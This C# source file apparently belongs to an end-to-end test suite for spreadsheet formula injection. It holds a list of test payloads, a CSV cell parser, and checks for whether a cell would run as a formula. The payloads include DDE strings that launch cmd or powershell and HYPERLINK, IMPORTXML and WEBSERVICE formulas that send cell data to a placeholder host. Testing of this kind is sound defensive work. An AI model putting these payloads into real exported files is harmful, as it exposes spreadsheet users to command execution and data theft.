using System.Globalization;
using System.Text;

namespace E2E.Payloads;

/// <summary>Texts that a spreadsheet would run, and what it takes to see whether it would.</summary>
internal static class FormulaPayloads
{
    private const string Dangerous = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

    public static IReadOnlyList<string> All { get; } =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid?\"&A1,\"x\")", "=IMPORTXML(\"http://x.invalid\",\"//a\")", "=WEBSERVICE(\"http://x.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=SUM(1,1)*cmd|'/C powershell'!A0", "=\"a\"&\"b\"", "='x'!A1", "= 1+1", "==1", "=-1", "=,=1", "=\u00A01", "=ＳＵＭ(1)",
        "+1+1", "+cmd|'/C calc'!A0", "+A1", "+\"x\"", "-1+1", "-cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "--1", "-A1", "@SUM(1+1)", "@A1", "@x",
        "\uFF1D1+1", "\uFF0Bcmd|'/C calc'!A0", "\uFF0D1+1", "\uFF20SUM(1)", "'=1+1", "''=1+1", "\"=1+1\"", "\"\",=1+1", "a,=1+1", "x\"=1",
    ];

    /// <summary>The cells of a text as a spreadsheet splits it: commas, quotes, line breaks in quotes.</summary>
    public static IEnumerable<List<string>> Rows(string text)
    {
        var (row, cell, quoted) = (new List<string>(), new StringBuilder(), false);
        for (var i = text.StartsWith('\uFEFF') ? 1 : 0; i < text.Length; i++)
        {
            var letter = text[i];
            if (letter == '"')
            {
                if (quoted && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append(text[++i]);
                }
                else if (quoted || cell.Length == 0)
                {
                    quoted = !quoted;
                }
                else
                {
                    cell.Append(letter);
                }
            }
            else if (!quoted && letter is ',' or '\n' && !quoted)
            {
                row.Add(cell.ToString().TrimEnd('\r'));
                cell.Clear();
                if (letter == '\n')
                {
                    yield return row;
                    row = [];
                }
            }
            else
            {
                cell.Append(letter);
            }
        }

        if (cell.Length > 0 || row.Count > 0)
        {
            yield return [.. row, cell.ToString()];
        }
    }

    /// <summary>True for a cell that a spreadsheet would run; a number is none.</summary>
    public static bool Runs(string cell)
    {
        var rest = cell.TrimStart(' ');
        return rest.Length > 0 && Dangerous.Contains(rest[0], StringComparison.Ordinal)
            && !decimal.TryParse(cell, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint | NumberStyles.AllowExponent, CultureInfo.InvariantCulture, out _);
    }

    /// <summary>The cell without the apostrophe that keeps it from running.</summary>
    public static string Unguarded(string cell)
    {
        var rest = cell.TrimStart('\'').TrimStart(' ');
        return cell.StartsWith('\'') && rest.Length > 0 && (Dangerous.Contains(rest[0], StringComparison.Ordinal) || rest[0] == '#') ? cell[1..] : cell;
    }
}
